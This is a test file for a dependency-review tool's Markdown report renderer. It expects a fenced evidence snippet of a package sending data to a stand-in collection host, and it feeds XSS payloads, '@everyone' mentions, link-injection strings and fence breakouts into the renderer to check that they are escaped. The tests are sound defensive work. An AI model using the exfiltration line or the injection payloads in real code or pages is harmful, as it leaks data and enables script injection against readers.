import { renderMarkdown } from '../../src/report/markdown.js';
import type { Report } from '../../src/model/types.js';
import { changeReport, sampleReport } from './fixtures.js';
import { markdownProblems, outsideCode } from './markdown-check.js';

const POINTER = 'See the job summary for the full report.';

function emptyReport(): Report {
  return { ...sampleReport(), verdict: 'pass', changes: [], errors: [], notes: [], lockfiles: [], counts: { critical: 0, high: 0, medium: 0, low: 0, info: 0, acknowledged: 0 } };
}

describe('renderMarkdown layout', () => {
  const markdown = renderMarkdown(sampleReport(), { marker: '<!-- depdiff -->' });

  test('starts with the marker, the title and the verdict with counts', () => {
    const lines = markdown.split('\n');
    expect(lines[0]).toBe('<!-- depdiff -->');
    expect(lines[1]).toBe('## depdiff dependency review');
    expect(lines[3]).toBe(
      '❌ **Fail**: 1 critical, 3 high, 2 medium, 2 low, 1 info in 7 changed packages (fail-on: high), 1 acknowledged. ⚠️ 1 package could not be reviewed.',
    );
  });

  test('is well-formed Markdown', () => {
    expect(markdownProblems(markdown)).toEqual([]);
  });

  test('has one section per lockfile, findings before each table, packages worst first', () => {
    const npm = markdown.indexOf('### package\\-lock\\.json');
    const pnpm = markdown.indexOf('### packages/web/pnpm\\-lock\\.yaml');
    expect(npm).toBeGreaterThan(0);
    expect(pnpm).toBeGreaterThan(npm);
    const critical = markdown.indexOf('#### 🟥 event\\-stream\\-helper 3\\.3\\.4 → 3\\.3\\.6');
    const medium = markdown.indexOf('#### 🟨 @\u200Dacme/logger 1\\.2\\.0 → 1\\.3\\.0');
    const low = markdown.indexOf('#### 🟦 tiny\\-color 0\\.4\\.1 (added)');
    const table = markdown.indexOf('<details><summary>5 changed packages</summary>');
    expect([critical, medium, low, table].every((index) => index > npm && index < pnpm)).toBe(true);
    expect(critical).toBeLessThan(medium);
    expect(medium).toBeLessThan(low);
    expect(low).toBeLessThan(table);
    expect(markdown.indexOf('#### 🟧 chalk 5\\.3\\.0 → 5\\.4\\.1')).toBeGreaterThan(pnpm);
    expect(markdown).toContain('<details><summary>2 changed packages</summary>');
  });

  test('links each location to the npm code view and fences the evidence', () => {
    expect(markdown).toContain('in [lib/setup\\.js:4](https://www.npmjs.com/package/event-stream-helper/v/3.3.6?activeTab=code)');
    expect(markdown).toContain('(https://www.npmjs.com/package/@acme/logger/v/1.3.0?activeTab=code)');
    expect(markdown).toContain("```js\nconst https = require('https');\nhttps.get('https://collect.example.net/?d=' + data);\n```");
    expect(markdown).toContain('<details><summary>package.json changes</summary>\n\n```diff\n--- a/package.json');
  });

  test('lists every changed package in the table, including ones without findings', () => {
    expect(markdown).toContain('| left\\-pad | 1\\.3\\.0 (removed) | removed | transitive | — |');
    expect(markdown).toContain('| lodash | 4\\.17\\.20 → 4\\.17\\.21 | updated (dev) | transitive | — |');
    expect(markdown).not.toMatch(/#### .*lodash/);
  });

  test('shows acknowledged findings apart, collapsed, with their reason', () => {
    expect(markdown).toContain('<details><summary>1 acknowledged finding</summary>');
    expect(markdown).toMatch(/acknowledged: Opt\\-in telemetry, reviewed by the platform team \(until 2026\\-06\\-30\)/);
    expect(markdown).not.toMatch(/#### .*\n\n.*\n\n.*telemetry\\\.js newly loads/);
  });

  test('lists packages that could not be reviewed, notes, and how to acknowledge', () => {
    expect(markdown).toContain('- big\\-binary@\u200D2\\.0\\.0: The tarball is larger than 200 MB\\. (`ELIMIT`)');
    expect(markdown).toContain('- The registry omits \\_npmUser');
    expect(markdown).toContain('ignore:\n  - package: "event-stream-helper"\n    version: "3.3.6"\n    kinds: [install-script]');
    expect(markdown).toContain('expires: "2026-04-09"');
    expect(markdown).toContain('read from the base branch');
    expect(markdown).toContain('`.github/depdiff.yml`');
  });

  test('the order of the closing sections is acknowledged, errors, how-to', () => {
    const ack = markdown.indexOf('acknowledged finding</summary>');
    const errors = markdown.indexOf('#### ⚠️ Not reviewed');
    const howTo = markdown.indexOf('How to acknowledge a finding');
    expect(ack).toBeLessThan(errors);
    expect(errors).toBeLessThan(howTo);
  });

  test('a single lockfile gets no lockfile heading', () => {
    const report = sampleReport();
    report.changes = report.changes.filter((change) => change.lockfile === 'package-lock.json');
    expect(renderMarkdown(report)).not.toContain('### package');
  });

  test('options: title, config path and a config change notice', () => {
    const custom = renderMarkdown(sampleReport(), { title: '### Deps', configPath: 'ci/depdiff.yaml', configChanged: true });
    expect(custom.startsWith('### Deps\n')).toBe(true);
    expect(custom).toContain('- This pull request changes `ci/depdiff.yaml`; its changes apply once merged');
    expect(custom).toContain('acknowledge it in `ci/depdiff.yaml`');
  });

  test('a passing review says so', () => {
    const report = sampleReport();
    report.verdict = 'pass';
    expect(renderMarkdown(report)).toMatch(/^## depdiff dependency review\n\n✅ \*\*Pass\*\*: /);
  });

  test('no changes gives a short body', () => {
    expect(renderMarkdown(emptyReport(), { marker: '<!-- depdiff -->' })).toBe('<!-- depdiff -->\n## depdiff dependency review\n\nNo dependency changes.\n');
  });

  test('no how-to section when every finding is acknowledged', () => {
    const report = sampleReport();
    for (const change of report.changes) for (const finding of change.findings) finding.acknowledged = { reason: 'ok' };
    expect(renderMarkdown(report)).not.toContain('How to acknowledge');
  });
});

describe('renderMarkdown with hostile package text', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '@everyone',
    '[link](http://evil)',
    'multi\nline\n## heading',
    'pipe|in|name',
    '```` evil',
  ];

  function hostileReport(): Report {
    const report = sampleReport();
    report.changes = hostile.map((name, index) =>
      changeReport(name, '1.0.0', '2.0.0 @everyone', [
        {
          kind: 'network',
          severity: 'high',
          message: `contacts [click](http://evil) <img src=x> @everyone | cell | ${name}`,
          file: 'lib/```/</details>/x.js',
          line: index + 1,
          evidence: '```\n</details>\n<img src=x onerror=alert(1)>\n@everyone\n~~~\n````',
        },
        { kind: 'deprecated', severity: 'low', message: 'deprecated: [x](http://evil)', acknowledged: { reason: '<img src=x> @everyone [a](http://evil)', expires: '2026-01-01' } },
      ], { worst: 'high', packageJsonDiff: '--- a/package.json\n+++ b/package.json\n+  "postinstall": "```\\n</details>"' }),
    );
    report.errors = [{ name: '@everyone', version: '<img src=x>', message: '[a](http://evil)\n```', code: 'E`X' }];
    report.notes = ['The ignore for [a](http://evil) @everyone <img src=x> has expired.'];
    report.lockfiles = [{ path: 'package-lock.json', format: 'npm', changes: hostile.length }];
    return report;
  }

  function assertSafe(markdown: string): void {
    expect(markdownProblems(markdown)).toEqual([]);
    const rendered = outsideCode(markdown);
    expect(rendered).not.toMatch(/<img/i);
    expect(rendered).not.toMatch(/@everyone/);
    expect(rendered).not.toMatch(/\]\(http:\/\/evil/);
    expect(rendered).not.toMatch(/(?<!\]\()http:\/\/evil/);
    expect(rendered).not.toMatch(/^#{1,3} (?!depdiff dependency review)/m);
    for (const line of rendered.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| ---'))) {
      // Every table row keeps its five cells: escaped pipes do not split cells.
      expect(line.replace(/\\\|/g, '').split('|').length - 2).toBe(5);
    }
  }

  test('renders no link, image, HTML, heading or mention from package text', () => {
    const markdown = renderMarkdown(hostileReport(), { marker: '<!-- depdiff -->' });
    assertSafe(markdown);
    expect(markdown).toContain('&lt;img src=x onerror=alert\\(1\\)&gt;');
    expect(markdown).toContain('\\[link\\]\\(http:\u200B//evil\\)');
    expect(markdown).toContain('multi line \\#\\# heading');
  });

  test('stays safe at every budget level', () => {
    const report = hostileReport();
    const full = renderMarkdown(report).length;
    for (const maxChars of [full - 1, Math.floor(full * 0.7), Math.floor(full * 0.4), 3000, 1500, 600]) {
      const markdown = renderMarkdown(report, { maxChars, overflowPointer: POINTER });
      expect(markdown.length).toBeLessThanOrEqual(maxChars);
      assertSafe(markdown);
    }
  });

  test('a tampered finding URL cannot break out of the link', () => {
    const report = sampleReport();
    report.changes[0]!.findings[0]!.url = 'https://www.npmjs.com/x)[y](http://evil';
    const markdown = renderMarkdown(report);
    expect(outsideCode(markdown)).not.toContain('](http://evil');
    expect(markdown).toContain('https://www.npmjs.com/x%29%5By%5D%28http://evil');
    report.changes[0]!.findings[0]!.url = 'https://evil.example/';
    expect(renderMarkdown(report)).not.toContain('evil.example');
  });
});

test('the structure check used above catches broken Markdown', () => {
  expect(markdownProblems('```\nx')).toEqual(['unclosed fence ```']);
  expect(markdownProblems('````\n```\nx')).toEqual(['unclosed fence ````']);
  expect(markdownProblems('<details>\nx')).toEqual(['1 unclosed <details>']);
  expect(markdownProblems('x\n</details>\n<details>')).toHaveLength(1);
  expect(markdownProblems('````\n```\n</details>\n````\n<details>\n\n</details>')).toEqual([]);
  expect(outsideCode('a `<img>` b\n```\n@everyone\n```')).toBe('a «code» b');
});
